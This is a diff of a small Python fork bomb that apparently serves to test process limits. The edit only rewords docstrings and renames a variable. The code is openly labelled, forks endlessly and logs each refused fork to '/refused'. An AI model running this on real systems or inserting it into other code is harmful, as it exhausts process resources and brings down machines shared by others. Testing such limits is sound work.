@@ -1,17 +1,17 @@
-"""A fork bomb: every process forks as fast as it can. Each fork that the kernel refuses adds one byte to a file."""
+"""A fork bomb: every process forks as fast as it can. Each failed fork(2) appends a byte to a file."""
 
 import os
 import time
 
 
 def explode() -> None:
-    """Fork for ever."""
-    refused = os.open("/refused", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
+    """Fork forever."""
+    failures = os.open("/refused", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
     while True:
         try:
             os.fork()
         except BlockingIOError:
-            os.write(refused, b"x")
+            os.write(failures, b"x")
             time.sleep(0.1)
         time.sleep(0.02)
 
